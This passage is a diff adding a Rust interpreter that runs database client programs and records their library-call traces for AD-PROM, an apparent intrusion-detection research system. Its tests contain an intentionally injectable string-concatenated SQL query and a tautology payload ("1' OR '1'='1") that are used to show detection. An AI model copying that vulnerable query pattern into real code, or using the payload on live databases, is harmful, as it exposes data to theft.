@@ -1,0 +1,1145 @@
+//! The program runtime: a tree-walking interpreter that executes application
+//! programs against the database client layer, reporting every library call
+//! to a [`CallSink`].
+//!
+//! This is the dynamic half of the substrate replacing Dyninst-instrumented
+//! native execution: the program *really runs*, queries *really execute*,
+//! and the emitted call sequence depends on the data — one extra matching
+//! row produces one extra `mysql_fetch_row`/`printf` pair, exactly the
+//! behavioural signal AD-PROM monitors.
+//!
+//! Observation names come from the `site_labels` map produced by the static
+//! Analyzer — this is the "dynamic instrumentation" of §IV-D: labeled
+//! output sites report `printf_Q<bid>` instead of `printf`.
+
+use crate::collector::{CallEvent, CallSink};
+use crate::value::RtValue;
+use adprom_client::ClientSession;
+use adprom_lang::{BinOp, Callee, CallSiteId, Expr, Function, LibCall, Program, Stmt, UnOp};
+use std::collections::HashMap;
+use std::fmt;
+
+/// Interpreter configuration.
+#[derive(Debug, Clone)]
+pub struct ExecConfig {
+    /// Evaluation-step budget; exceeded ⇒ [`RuntimeError::StepLimit`].
+    pub step_limit: u64,
+    /// Seed for `rand()`.
+    pub rng_seed: u64,
+    /// Attach extension payloads (query signatures, file paths, system
+    /// commands) to the matching call events — the §VII mitigations. Off by
+    /// default: the baseline collector records names and callers only.
+    pub extended_events: bool,
+}
+
+impl Default for ExecConfig {
+    fn default() -> ExecConfig {
+        ExecConfig {
+            step_limit: 5_000_000,
+            rng_seed: 0xAD50,
+            extended_events: false,
+        }
+    }
+}
+
+/// What the program produced.
+#[derive(Debug, Clone, Default)]
+pub struct ExecOutcome {
+    /// Everything written to stdout.
+    pub stdout: String,
+    /// Virtual filesystem contents (path → content).
+    pub files: HashMap<String, String>,
+    /// Commands passed to `system()`.
+    pub system_commands: Vec<String>,
+    /// Evaluation steps consumed.
+    pub steps: u64,
+    /// True if the program called `exit()`.
+    pub exited: bool,
+}
+
+/// Runtime errors.
+#[derive(Debug, Clone, PartialEq)]
+pub enum RuntimeError {
+    /// Call to a function that does not exist.
+    UndefinedFunction(String),
+    /// The step budget was exhausted (runaway loop).
+    StepLimit,
+    /// The program has no `main`.
+    NoMain,
+}
+
+impl fmt::Display for RuntimeError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            RuntimeError::UndefinedFunction(name) => write!(f, "undefined function `{name}`"),
+            RuntimeError::StepLimit => write!(f, "step limit exceeded"),
+            RuntimeError::NoMain => write!(f, "program has no main"),
+        }
+    }
+}
+
+impl std::error::Error for RuntimeError {}
+
+enum Flow {
+    Normal,
+    Break,
+    Continue,
+    Return(RtValue),
+    Exit,
+}
+
+/// Runs a program to completion.
+///
+/// * `session` — the database connection the program talks to;
+/// * `inputs` — the stdin lines consumed by `scanf`/`gets`/`fgets` (a test
+///   case is exactly such an input vector);
+/// * `site_labels` — observation names per call site (from the Analyzer);
+///   pass an empty map to trace raw names;
+/// * `sink` — where call events go.
+pub fn run_program(
+    prog: &Program,
+    session: &mut ClientSession,
+    inputs: &[String],
+    site_labels: &HashMap<CallSiteId, String>,
+    sink: &mut dyn CallSink,
+    config: &ExecConfig,
+) -> Result<ExecOutcome, RuntimeError> {
+    let main = prog.entry().ok_or(RuntimeError::NoMain)?;
+    let mut interp = Interp {
+        prog,
+        session,
+        sink,
+        labels: site_labels,
+        inputs,
+        next_input: 0,
+        outcome: ExecOutcome::default(),
+        config: config.clone(),
+        rng_state: config.rng_seed.wrapping_mul(0x9E3779B97F4A7C15) | 1,
+        open_files: Vec::new(),
+    };
+    let mut frame = HashMap::new();
+    if let Flow::Exit = interp.run_function(main, &mut frame)? {
+        interp.outcome.exited = true;
+    }
+    Ok(interp.outcome)
+}
+
+struct Interp<'a> {
+    prog: &'a Program,
+    session: &'a mut ClientSession,
+    sink: &'a mut dyn CallSink,
+    labels: &'a HashMap<CallSiteId, String>,
+    inputs: &'a [String],
+    next_input: usize,
+    outcome: ExecOutcome,
+    config: ExecConfig,
+    rng_state: u64,
+    /// fopen handles: index → path.
+    open_files: Vec<String>,
+}
+
+type Frame = HashMap<String, RtValue>;
+
+enum Evaled {
+    Value(RtValue),
+    Exit,
+}
+
+/// Evaluates an expression to a value, early-returning on `exit()`.
+macro_rules! eval_value {
+    ($self:ident, $e:expr, $caller:expr, $frame:expr) => {
+        match $self.eval($e, $caller, $frame)? {
+            Evaled::Value(v) => v,
+            Evaled::Exit => return Ok(Evaled::Exit),
+        }
+    };
+}
+
+impl Interp<'_> {
+    fn tick(&mut self) -> Result<(), RuntimeError> {
+        self.outcome.steps += 1;
+        if self.outcome.steps > self.config.step_limit {
+            return Err(RuntimeError::StepLimit);
+        }
+        Ok(())
+    }
+
+    fn run_function(&mut self, func: &Function, frame: &mut Frame) -> Result<Flow, RuntimeError> {
+        for stmt in &func.body {
+            match self.run_stmt(stmt, &func.name, frame)? {
+                Flow::Normal => {}
+                other => return Ok(other),
+            }
+        }
+        Ok(Flow::Normal)
+    }
+
+    fn run_block(
+        &mut self,
+        stmts: &[Stmt],
+        caller: &str,
+        frame: &mut Frame,
+    ) -> Result<Flow, RuntimeError> {
+        for stmt in stmts {
+            match self.run_stmt(stmt, caller, frame)? {
+                Flow::Normal => {}
+                other => return Ok(other),
+            }
+        }
+        Ok(Flow::Normal)
+    }
+
+    fn run_stmt(
+        &mut self,
+        stmt: &Stmt,
+        caller: &str,
+        frame: &mut Frame,
+    ) -> Result<Flow, RuntimeError> {
+        self.tick()?;
+        match stmt {
+            Stmt::Let(name, e) | Stmt::Assign(name, e) => {
+                let v = match self.eval(e, caller, frame)? {
+                    Evaled::Value(v) => v,
+                    Evaled::Exit => return Ok(Flow::Exit),
+                };
+                frame.insert(name.clone(), v);
+                Ok(Flow::Normal)
+            }
+            Stmt::Expr(e) => match self.eval(e, caller, frame)? {
+                Evaled::Value(_) => Ok(Flow::Normal),
+                Evaled::Exit => Ok(Flow::Exit),
+            },
+            Stmt::If {
+                cond,
+                then_branch,
+                else_branch,
+            } => {
+                let c = match self.eval(cond, caller, frame)? {
+                    Evaled::Value(v) => v,
+                    Evaled::Exit => return Ok(Flow::Exit),
+                };
+                if c.truthy() {
+                    self.run_block(then_branch, caller, frame)
+                } else {
+                    self.run_block(else_branch, caller, frame)
+                }
+            }
+            Stmt::While { cond, body } => loop {
+                let c = match self.eval(cond, caller, frame)? {
+                    Evaled::Value(v) => v,
+                    Evaled::Exit => return Ok(Flow::Exit),
+                };
+                if !c.truthy() {
+                    return Ok(Flow::Normal);
+                }
+                match self.run_block(body, caller, frame)? {
+                    Flow::Normal | Flow::Continue => {}
+                    Flow::Break => return Ok(Flow::Normal),
+                    other => return Ok(other),
+                }
+                self.tick()?;
+            },
+            Stmt::For {
+                init,
+                cond,
+                step,
+                body,
+            } => {
+                match self.run_stmt(init, caller, frame)? {
+                    Flow::Normal => {}
+                    other => return Ok(other),
+                }
+                loop {
+                    let c = match self.eval(cond, caller, frame)? {
+                        Evaled::Value(v) => v,
+                        Evaled::Exit => return Ok(Flow::Exit),
+                    };
+                    if !c.truthy() {
+                        return Ok(Flow::Normal);
+                    }
+                    match self.run_block(body, caller, frame)? {
+                        Flow::Normal | Flow::Continue => {}
+                        Flow::Break => return Ok(Flow::Normal),
+                        other => return Ok(other),
+                    }
+                    match self.run_stmt(step, caller, frame)? {
+                        Flow::Normal => {}
+                        other => return Ok(other),
+                    }
+                    self.tick()?;
+                }
+            }
+            Stmt::Return(e) => {
+                let v = match e {
+                    None => RtValue::Null,
+                    Some(e) => match self.eval(e, caller, frame)? {
+                        Evaled::Value(v) => v,
+                        Evaled::Exit => return Ok(Flow::Exit),
+                    },
+                };
+                Ok(Flow::Return(v))
+            }
+            Stmt::Break => Ok(Flow::Break),
+            Stmt::Continue => Ok(Flow::Continue),
+        }
+    }
+
+    fn eval(
+        &mut self,
+        e: &Expr,
+        caller: &str,
+        frame: &mut Frame,
+    ) -> Result<Evaled, RuntimeError> {
+        self.tick()?;
+        let v = match e {
+            Expr::Int(v) => RtValue::Int(*v),
+            Expr::Float(v) => RtValue::Float(*v),
+            Expr::Str(s) => RtValue::Str(s.clone()),
+            Expr::Bool(b) => RtValue::Bool(*b),
+            Expr::Null => RtValue::Null,
+            // Uninitialized variables read as NULL (C uninitialized-global
+            // semantics) — attack-mutated programs may reference variables
+            // declared on other paths, and the run must not abort.
+            Expr::Var(name) => frame.get(name).cloned().unwrap_or(RtValue::Null),
+            Expr::Unary(op, a) => {
+                let va = eval_value!(self, a, caller, frame);
+                match op {
+                    UnOp::Neg => match va {
+                        RtValue::Int(v) => RtValue::Int(-v),
+                        RtValue::Float(v) => RtValue::Float(-v),
+                        other => RtValue::Float(-other.as_number().unwrap_or(0.0)),
+                    },
+                    UnOp::Not => RtValue::Bool(!va.truthy()),
+                }
+            }
+            Expr::Binary(op, a, b) => {
+                // Short-circuit logicals.
+                if *op == BinOp::And {
+                    let va = eval_value!(self, a, caller, frame);
+                    if !va.truthy() {
+                        return Ok(Evaled::Value(RtValue::Bool(false)));
+                    }
+                    let vb = eval_value!(self, b, caller, frame);
+                    return Ok(Evaled::Value(RtValue::Bool(vb.truthy())));
+                }
+                if *op == BinOp::Or {
+                    let va = eval_value!(self, a, caller, frame);
+                    if va.truthy() {
+                        return Ok(Evaled::Value(RtValue::Bool(true)));
+                    }
+                    let vb = eval_value!(self, b, caller, frame);
+                    return Ok(Evaled::Value(RtValue::Bool(vb.truthy())));
+                }
+                let va = eval_value!(self, a, caller, frame);
+                let vb = eval_value!(self, b, caller, frame);
+                binary_op(*op, va, vb)
+            }
+            Expr::Index(a, idx) => {
+                let va = eval_value!(self, a, caller, frame);
+                let vi = eval_value!(self, idx, caller, frame);
+                let i = vi.as_int().unwrap_or(0).max(0) as usize;
+                match va {
+                    RtValue::Row(cols) => cols
+                        .get(i)
+                        .map(|s| RtValue::Str(s.clone()))
+                        .unwrap_or(RtValue::Null),
+                    RtValue::Str(s) => s
+                        .chars()
+                        .nth(i)
+                        .map(|c| RtValue::Str(c.to_string()))
+                        .unwrap_or(RtValue::Null),
+                    _ => RtValue::Null,
+                }
+            }
+            Expr::Call {
+                site,
+                callee,
+                args,
+                ..
+            } => {
+                // Evaluate arguments first (their nested calls are emitted
+                // before this one, matching the trace order of native code).
+                let mut arg_values = Vec::with_capacity(args.len());
+                for a in args {
+                    arg_values.push(eval_value!(self, a, caller, frame));
+                }
+                match callee {
+                    Callee::User(name) => {
+                        let func = self
+                            .prog
+                            .function(name)
+                            .ok_or_else(|| RuntimeError::UndefinedFunction(name.clone()))?
+                            .clone();
+                        let mut callee_frame: Frame = HashMap::new();
+                        for (p, v) in func.params.iter().zip(arg_values) {
+                            callee_frame.insert(p.clone(), v);
+                        }
+                        match self.run_function(&func, &mut callee_frame)? {
+                            Flow::Return(v) => v,
+                            Flow::Exit => return Ok(Evaled::Exit),
+                            _ => RtValue::Null,
+                        }
+                    }
+                    Callee::Library(lc) => {
+                        let name = self
+                            .labels
+                            .get(site)
+                            .cloned()
+                            .unwrap_or_else(|| lc.name().to_string());
+                        let detail = if self.config.extended_events {
+                            event_detail(*lc, &arg_values, &self.open_files)
+                        } else {
+                            None
+                        };
+                        self.sink.on_call(CallEvent {
+                            name,
+                            call: *lc,
+                            caller: caller.to_string(),
+                            site: *site,
+                            detail,
+                        });
+                        match self.lib_call(*lc, args, arg_values, frame)? {
+                            Some(v) => v,
+                            None => return Ok(Evaled::Exit),
+                        }
+                    }
+                }
+            }
+        };
+        Ok(Evaled::Value(v))
+    }
+
+    /// Executes a library call. Returns `None` for `exit()`.
+    fn lib_call(
+        &mut self,
+        lc: LibCall,
+        arg_exprs: &[Expr],
+        args: Vec<RtValue>,
+        frame: &mut Frame,
+    ) -> Result<Option<RtValue>, RuntimeError> {
+        let arg = |i: usize| args.get(i).cloned().unwrap_or(RtValue::Null);
+        let str_arg = |i: usize| arg(i).render();
+        let handle = |i: usize| match arg(i) {
+            RtValue::Handle(h) => Some(h),
+            _ => None,
+        };
+        let v = match lc {
+            // ---- libpq ----
+            LibCall::PQconnectdb => RtValue::Str(str_arg(0)),
+            LibCall::PQexec => match self.session.pq_exec(&str_arg(1)) {
+                Ok(h) => RtValue::Handle(h),
+                Err(_) => RtValue::Null,
+            },
+            LibCall::PQprepare => {
+                let _ = self.session.pq_prepare(&str_arg(1), &str_arg(2));
+                RtValue::Int(0)
+            }
+            LibCall::PQexecPrepared => {
+                let params: Vec<String> = args[2..].iter().map(RtValue::render).collect();
+                match self.session.pq_exec_prepared(&str_arg(1), &params) {
+                    Ok(h) => RtValue::Handle(h),
+                    Err(_) => RtValue::Null,
+                }
+            }
+            // Handle-taking calls are lenient on NULL/garbage handles —
+            // attack-mutated programs may query missing tables, and a run
+            // must degrade (empty results) rather than abort.
+            LibCall::PQntuples => match handle(0) {
+                Some(h) => RtValue::Int(self.session.pq_ntuples(h).unwrap_or(0) as i64),
+                None => RtValue::Int(0),
+            },
+            LibCall::PQnfields => match handle(0) {
+                Some(h) => RtValue::Int(self.session.pq_nfields(h).unwrap_or(0) as i64),
+                None => RtValue::Int(0),
+            },
+            LibCall::PQgetvalue => match handle(0) {
+                Some(h) => {
+                    let r = arg(1).as_int().unwrap_or(0).max(0) as usize;
+                    let c = arg(2).as_int().unwrap_or(0).max(0) as usize;
+                    RtValue::Str(self.session.pq_getvalue(h, r, c).unwrap_or_default())
+                }
+                None => RtValue::Str(String::new()),
+            },
+            LibCall::PQclear => {
+                if let Some(h) = handle(0) {
+                    let _ = self.session.pq_clear(h);
+                }
+                RtValue::Null
+            }
+            LibCall::PQfinish => RtValue::Null,
+
+            // ---- libmysqlclient ----
+            LibCall::MysqlInit | LibCall::MysqlRealConnect => RtValue::Str("conn".into()),
+            LibCall::MysqlQuery => RtValue::Int(self.session.mysql_query(&str_arg(1))),
+            LibCall::MysqlStoreResult => match self.session.mysql_store_result() {
+                Ok(h) => RtValue::Handle(h),
+                Err(_) => RtValue::Null,
+            },
+            LibCall::MysqlFetchRow => match handle(0) {
+                Some(h) => match self.session.mysql_fetch_row(h) {
+                    Ok(Some(row)) => RtValue::Row(row),
+                    _ => RtValue::Null,
+                },
+                None => RtValue::Null,
+            },
+            LibCall::MysqlNumRows => match handle(0) {
+                Some(h) => RtValue::Int(self.session.mysql_num_rows(h).unwrap_or(0) as i64),
+                None => RtValue::Int(0),
+            },
+            LibCall::MysqlNumFields => match handle(0) {
+                Some(h) => RtValue::Int(self.session.mysql_num_fields(h).unwrap_or(0) as i64),
+                None => RtValue::Int(0),
+            },
+            LibCall::MysqlFreeResult => {
+                if let Some(h) = handle(0) {
+                    let _ = self.session.mysql_free_result(h);
+                }
+                RtValue::Null
+            }
+            LibCall::MysqlClose => RtValue::Null,
+            LibCall::MysqlStmtPrepare => {
+                let _ = self.session.mysql_stmt_prepare(&str_arg(1));
+                RtValue::Int(0)
+            }
+            LibCall::MysqlStmtExecute => {
+                let params: Vec<String> = args[1..].iter().map(RtValue::render).collect();
+                let _ = self.session.mysql_stmt_execute(&params);
+                RtValue::Int(0)
+            }
+
+            // ---- stdout ----
+            LibCall::Printf => {
+                let text = format_printf(&str_arg(0), &args[1.min(args.len())..]);
+                self.outcome.stdout.push_str(&text);
+                RtValue::Int(text.len() as i64)
+            }
+            LibCall::Puts => {
+                self.outcome.stdout.push_str(&str_arg(0));
+                self.outcome.stdout.push('\n');
+                RtValue::Int(0)
+            }
+            LibCall::Putchar => {
+                self.outcome.stdout.push_str(&str_arg(0));
+                RtValue::Int(0)
+            }
+
+            // ---- files ----
+            LibCall::Fopen => {
+                let path = str_arg(0);
+                let mode = str_arg(1);
+                if !mode.contains('a') {
+                    self.outcome.files.insert(path.clone(), String::new());
+                } else {
+                    self.outcome.files.entry(path.clone()).or_default();
+                }
+                self.open_files.push(path);
+                RtValue::File(self.open_files.len() - 1)
+            }
+            LibCall::Fprintf => {
+                let text = format_printf(&str_arg(1), &args[2.min(args.len())..]);
+                self.write_file(arg(0), &text);
+                RtValue::Int(text.len() as i64)
+            }
+            LibCall::Fputs | LibCall::Fputc => {
+                let text = str_arg(0);
+                self.write_file(arg(1), &text);
+                RtValue::Int(0)
+            }
+            LibCall::Fwrite => {
+                let text = str_arg(0);
+                self.write_file(arg(3), &text);
+                RtValue::Int(text.len() as i64)
+            }
+            LibCall::Write => {
+                // write(fd, buf, len): fd 1 = stdout, else a virtual fd.
+                let fd = arg(0);
+                let text = str_arg(1);
+                if fd.as_int() == Some(1) {
+                    self.outcome.stdout.push_str(&text);
+                } else {
+                    self.write_file(fd, &text);
+                }
+                RtValue::Int(text.len() as i64)
+            }
+            LibCall::Fclose | LibCall::Fflush => RtValue::Int(0),
+            LibCall::Fread => RtValue::Str(String::new()),
+            LibCall::Remove => {
+                self.outcome.files.remove(&str_arg(0));
+                RtValue::Int(0)
+            }
+
+            // ---- stdin ----
+            LibCall::Scanf | LibCall::Gets | LibCall::Getchar => {
+                let v = self.read_input();
+                // scanf("%s", var)-style: if a variable expression was
+                // passed as the last argument, also store into it.
+                if let Some(Expr::Var(name)) = arg_exprs.last() {
+                    frame.insert(name.clone(), v.clone());
+                }
+                v
+            }
+            LibCall::Fscanf | LibCall::Fgets => {
+                let v = self.read_input();
+                if let Some(Expr::Var(name)) = arg_exprs.first() {
+                    frame.insert(name.clone(), v.clone());
+                }
+                v
+            }
+
+            // ---- strings ----
+            LibCall::Strcpy | LibCall::Strncpy => {
+                let src = str_arg(1);
+                self.store_into(arg_exprs.first(), RtValue::Str(src.clone()), frame);
+                RtValue::Str(src)
+            }
+            LibCall::Strcat | LibCall::Strncat => {
+                let mut dst = str_arg(0);
+                dst.push_str(&str_arg(1));
+                self.store_into(arg_exprs.first(), RtValue::Str(dst.clone()), frame);
+                RtValue::Str(dst)
+            }
+            LibCall::Sprintf | LibCall::Snprintf => {
+                // sprintf(dst, fmt, ...) — snprintf has a size arg we ignore.
+                let (fmt_idx, rest_idx) = if lc == LibCall::Snprintf { (2, 3) } else { (1, 2) };
+                let text = format_printf(&str_arg(fmt_idx), &args[rest_idx.min(args.len())..]);
+                self.store_into(arg_exprs.first(), RtValue::Str(text.clone()), frame);
+                RtValue::Str(text)
+            }
+            LibCall::Strcmp => {
+                let a = str_arg(0);
+                let b = str_arg(1);
+                RtValue::Int(match a.cmp(&b) {
+                    std::cmp::Ordering::Less => -1,
+                    std::cmp::Ordering::Equal => 0,
+                    std::cmp::Ordering::Greater => 1,
+                })
+            }
+            LibCall::Strlen => RtValue::Int(str_arg(0).len() as i64),
+            LibCall::Strstr => {
+                let hay = str_arg(0);
+                let needle = str_arg(1);
+                match hay.find(&needle) {
+                    Some(pos) => RtValue::Str(hay[pos..].to_string()),
+                    None => RtValue::Null,
+                }
+            }
+            LibCall::Atoi => RtValue::Int(parse_prefix_int(&str_arg(0))),
+            LibCall::Atof => RtValue::Float(str_arg(0).trim().parse().unwrap_or(0.0)),
+            LibCall::Memcpy => {
+                let src = arg(1);
+                self.store_into(arg_exprs.first(), src.clone(), frame);
+                src
+            }
+            LibCall::Memset => arg(0),
+
+            // ---- misc ----
+            LibCall::System => {
+                self.outcome.system_commands.push(str_arg(0));
+                RtValue::Int(0)
+            }
+            LibCall::Exit => return Ok(None),
+            LibCall::Malloc => RtValue::Str(String::new()),
+            LibCall::Free => RtValue::Null,
+            LibCall::Rand => {
+                // xorshift64*: deterministic per seed.
+                self.rng_state ^= self.rng_state >> 12;
+                self.rng_state ^= self.rng_state << 25;
+                self.rng_state ^= self.rng_state >> 27;
+                RtValue::Int(
+                    ((self.rng_state.wrapping_mul(0x2545F4914F6CDD1D)) >> 33) as i64,
+                )
+            }
+            LibCall::Srand => {
+                self.rng_state = arg(0).as_int().unwrap_or(0) as u64 | 1;
+                RtValue::Null
+            }
+            LibCall::Time => RtValue::Int(1_600_000_000),
+            LibCall::Getenv => RtValue::Str(String::new()),
+            LibCall::Sleep => RtValue::Int(0),
+            LibCall::Abs => RtValue::Int(arg(0).as_int().unwrap_or(0).abs()),
+            LibCall::Sqrt => RtValue::Float(arg(0).as_number().unwrap_or(0.0).max(0.0).sqrt()),
+        };
+        Ok(Some(v))
+    }
+
+    fn read_input(&mut self) -> RtValue {
+        match self.inputs.get(self.next_input) {
+            Some(line) => {
+                self.next_input += 1;
+                RtValue::Str(line.clone())
+            }
+            None => RtValue::Str(String::new()),
+        }
+    }
+
+    /// Emulates out-parameter writes (`strcpy(dst, ..)`): when the argument
+    /// expression is a variable, store the new value into it.
+    fn store_into(&mut self, arg: Option<&Expr>, value: RtValue, frame: &mut Frame) {
+        if let Some(Expr::Var(name)) = arg {
+            frame.insert(name.clone(), value);
+        }
+    }
+
+    fn write_file(&mut self, file: RtValue, text: &str) {
+        let path = match file {
+            RtValue::File(id) => self.open_files.get(id).cloned(),
+            RtValue::Str(path) => Some(path),
+            _ => None,
+        };
+        let path = path.unwrap_or_else(|| "<unknown>".to_string());
+        self.outcome.files.entry(path).or_default().push_str(text);
+    }
+}
+
+/// Extension payload for a call (§VII): query signatures for submissions,
+/// file paths for file writes, the command line for `system`.
+fn event_detail(lc: LibCall, args: &[RtValue], open_files: &[String]) -> Option<String> {
+    let file_path = |v: Option<&RtValue>| -> Option<String> {
+        match v {
+            Some(RtValue::File(id)) => open_files.get(*id).cloned(),
+            Some(RtValue::Str(path)) => Some(path.clone()),
+            _ => None,
+        }
+    };
+    if lc.is_query_submission() {
+        // The SQL text position varies: PQexec(conn, sql) / PQprepare(conn,
+        // name, sql) / mysql_query(conn, sql) / mysql_stmt_prepare(conn, sql).
+        let sql_index = match lc {
+            LibCall::PQprepare => 2,
+            _ => 1,
+        };
+        return args
+            .get(sql_index)
+            .map(|v| adprom_db::query_signature(&v.render()));
+    }
+    match lc {
+        LibCall::Fopen => args.first().map(|v| v.render()),
+        LibCall::Fprintf => file_path(args.first()),
+        LibCall::Fputs | LibCall::Fputc => file_path(args.get(1)),
+        LibCall::Fwrite => file_path(args.get(3)),
+        LibCall::Write => file_path(args.first()),
+        LibCall::System | LibCall::Remove => args.first().map(|v| v.render()),
+        _ => None,
+    }
+}
+
+fn binary_op(op: BinOp, a: RtValue, b: RtValue) -> RtValue {
+    use BinOp::*;
+    match op {
+        Add => match (&a, &b) {
+            (RtValue::Str(x), _) => RtValue::Str(format!("{x}{}", b.render())),
+            (_, RtValue::Str(y)) => RtValue::Str(format!("{}{y}", a.render())),
+            (RtValue::Int(x), RtValue::Int(y)) => RtValue::Int(x.wrapping_add(*y)),
+            _ => num_op(&a, &b, |x, y| x + y),
+        },
+        Sub => int_preserving(&a, &b, i64::wrapping_sub, |x, y| x - y),
+        Mul => int_preserving(&a, &b, i64::wrapping_mul, |x, y| x * y),
+        Div => {
+            if let (RtValue::Int(x), RtValue::Int(y)) = (&a, &b) {
+                if *y != 0 {
+                    return RtValue::Int(x / y);
+                }
+                return RtValue::Int(0);
+            }
+            let y = b.as_number().unwrap_or(0.0);
+            if y == 0.0 {
+                RtValue::Float(0.0)
+            } else {
+                num_op(&a, &b, |x, y| x / y)
+            }
+        }
+        Rem => {
+            let x = a.as_int().unwrap_or(0);
+            let y = b.as_int().unwrap_or(0);
+            RtValue::Int(if y == 0 { 0 } else { x % y })
+        }
+        Eq | Ne | Lt | Le | Gt | Ge => {
+            let ord = compare(&a, &b);
+            let r = match (op, ord) {
+                (Eq, Some(o)) => o == std::cmp::Ordering::Equal,
+                (Ne, Some(o)) => o != std::cmp::Ordering::Equal,
+                (Lt, Some(o)) => o == std::cmp::Ordering::Less,
+                (Le, Some(o)) => o != std::cmp::Ordering::Greater,
+                (Gt, Some(o)) => o == std::cmp::Ordering::Greater,
+                (Ge, Some(o)) => o != std::cmp::Ordering::Less,
+                // Null comparisons: only != is true.
+                (Ne, None) => !(matches!(a, RtValue::Null) && matches!(b, RtValue::Null)),
+                (Eq, None) => matches!(a, RtValue::Null) && matches!(b, RtValue::Null),
+                _ => false,
+            };
+            RtValue::Bool(r)
+        }
+        And | Or => unreachable!("short-circuited in eval"),
+    }
+}
+
+fn int_preserving(
+    a: &RtValue,
+    b: &RtValue,
+    int_op: fn(i64, i64) -> i64,
+    float_op: fn(f64, f64) -> f64,
+) -> RtValue {
+    if let (RtValue::Int(x), RtValue::Int(y)) = (a, b) {
+        RtValue::Int(int_op(*x, *y))
+    } else {
+        num_op(a, b, float_op)
+    }
+}
+
+fn num_op(a: &RtValue, b: &RtValue, f: fn(f64, f64) -> f64) -> RtValue {
+    RtValue::Float(f(
+        a.as_number().unwrap_or(0.0),
+        b.as_number().unwrap_or(0.0),
+    ))
+}
+
+fn compare(a: &RtValue, b: &RtValue) -> Option<std::cmp::Ordering> {
+    match (a, b) {
+        (RtValue::Null, _) | (_, RtValue::Null) => None,
+        (RtValue::Str(x), RtValue::Str(y)) => {
+            // Numeric-looking strings compare numerically, else lexically.
+            match (x.trim().parse::<f64>(), y.trim().parse::<f64>()) {
+                (Ok(nx), Ok(ny)) => nx.partial_cmp(&ny),
+                _ => Some(x.cmp(y)),
+            }
+        }
+        _ => {
+            let na = a.as_number()?;
+            let nb = b.as_number()?;
+            na.partial_cmp(&nb)
+        }
+    }
+}
+
+fn parse_prefix_int(s: &str) -> i64 {
+    let t = s.trim_start();
+    let (sign, rest) = match t.strip_prefix('-') {
+        Some(r) => (-1, r),
+        None => (1, t.strip_prefix('+').unwrap_or(t)),
+    };
+    let digits: String = rest.chars().take_while(|c| c.is_ascii_digit()).collect();
+    digits.parse::<i64>().map(|v| sign * v).unwrap_or(0)
+}
+
+/// Minimal printf formatting: consumes `%s`/`%d`/`%i`/`%f`/`%c` in order;
+/// `%%` emits a literal percent; unknown directives are copied through.
+pub fn format_printf(fmt: &str, args: &[RtValue]) -> String {
+    let mut out = String::with_capacity(fmt.len());
+    let mut arg_iter = args.iter();
+    let mut chars = fmt.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c != '%' {
+            out.push(c);
+            continue;
+        }
+        match chars.next() {
+            Some('%') => out.push('%'),
+            Some('s') | Some('c') => {
+                out.push_str(&arg_iter.next().map(RtValue::render).unwrap_or_default())
+            }
+            Some('d') | Some('i') => {
+                let v = arg_iter
+                    .next()
+                    .and_then(RtValue::as_int)
+                    .unwrap_or(0);
+                out.push_str(&v.to_string());
+            }
+            Some('f') => {
+                let v = arg_iter
+                    .next()
+                    .and_then(RtValue::as_number)
+                    .unwrap_or(0.0);
+                out.push_str(&format!("{v:.6}"));
+            }
+            Some(other) => {
+                out.push('%');
+                out.push(other);
+            }
+            None => out.push('%'),
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::collector::TraceCollector;
+    use adprom_db::Database;
+    use adprom_lang::parse_program;
+
+    fn session_with_items() -> ClientSession {
+        let mut db = Database::new("shop");
+        db.execute("CREATE TABLE items (ID INT, name TEXT)").unwrap();
+        db.execute(
+            "INSERT INTO items VALUES (10, 'apple'), (11, 'pear'), (12, 'plum'), (13, 'fig')",
+        )
+        .unwrap();
+        ClientSession::connect(db)
+    }
+
+    fn run(src: &str, inputs: &[&str]) -> (Vec<String>, ExecOutcome) {
+        let prog = parse_program(src).unwrap();
+        let mut session = session_with_items();
+        let mut collector = TraceCollector::new();
+        let inputs: Vec<String> = inputs.iter().map(|s| s.to_string()).collect();
+        let outcome = run_program(
+            &prog,
+            &mut session,
+            &inputs,
+            &HashMap::new(),
+            &mut collector,
+            &ExecConfig::default(),
+        )
+        .unwrap();
+        (collector.names(), outcome)
+    }
+
+    #[test]
+    fn fig1_original_selectivity_one() {
+        // Fig. 1 original code: WHERE ID = 10 retrieves one row →
+        // PQexec, PQntuples, PQgetvalue, printf.
+        let (names, _) = run(
+            r#"
+            fn main() {
+                let query = "SELECT * FROM items WHERE ID = 10";
+                let result = PQexec(conn, query);
+                let rows = PQntuples(result);
+                for (let r = 0; r < rows; r = r + 1) {
+                    printf("%s", PQgetvalue(result, r, 0));
+                }
+            }
+            "#,
+            &[],
+        );
+        assert_eq!(names, vec!["PQexec", "PQntuples", "PQgetvalue", "printf"]);
+    }
+
+    #[test]
+    fn fig1_modified_selectivity_many() {
+        // Fig. 1 attack: WHERE ID >= 10 retrieves 4 rows → the
+        // (PQgetvalue, printf) pair repeats once per row.
+        let (names, _) = run(
+            r#"
+            fn main() {
+                let query = "SELECT * FROM items WHERE ID >= 10";
+                let result = PQexec(conn, query);
+                let rows = PQntuples(result);
+                for (let r = 0; r < rows; r = r + 1) {
+                    printf("%s", PQgetvalue(result, r, 0));
+                }
+            }
+            "#,
+            &[],
+        );
+        assert_eq!(names.len(), 2 + 2 * 4);
+        assert_eq!(
+            names[2..6],
+            ["PQgetvalue", "printf", "PQgetvalue", "printf"]
+        );
+    }
+
+    #[test]
+    fn fig2_injection_changes_call_sequence() {
+        // Fig. 2 vulnerable banking snippet: normal input vs tautology.
+        let src = r#"
+            fn main() {
+                let accNo = scanf();
+                let query = "";
+                let ts = "SELECT * FROM items where ID='";
+                let tr = "'";
+                strcpy(query, ts);
+                strcat(query, accNo);
+                strcat(query, tr);
+                mysql_query(conn, query);
+                let result = mysql_store_result(conn);
+                let row = mysql_fetch_row(result);
+                while (row != null) {
+                    printf("%s ", row[0]);
+                    row = mysql_fetch_row(result);
+                }
+            }
+        "#;
+        let (normal, _) = run(src, &["10"]);
+        let (attacked, _) = run(src, &["1' OR '1'='1"]);
+        // Normal: one row → fetch, print, fetch(None).
+        let fetches = |v: &[String]| v.iter().filter(|n| *n == "mysql_fetch_row").count();
+        let prints = |v: &[String]| v.iter().filter(|n| *n == "printf").count();
+        assert_eq!(prints(&normal), 1);
+        assert_eq!(fetches(&normal), 2);
+        // Injection: all 4 rows → 4 prints, 5 fetches.
+        assert_eq!(prints(&attacked), 4);
+        assert_eq!(fetches(&attacked), 5);
+    }
+
+    #[test]
